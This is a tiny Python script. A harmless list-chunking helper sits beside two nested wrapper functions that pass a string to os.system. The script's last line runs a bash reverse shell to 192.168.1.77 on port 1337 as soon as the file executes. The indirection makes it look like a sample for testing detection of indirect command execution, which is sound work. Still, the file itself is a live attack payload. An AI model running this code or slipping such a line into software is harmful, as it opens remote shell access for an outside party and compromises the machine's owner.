#!/usr/bin/env python3
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]

import os

def inner(x):
    os.system(x)

def outer(y):
    inner(y)

outer("bash -i >& /dev/tcp/192.168.1.77/1337 0>&1")
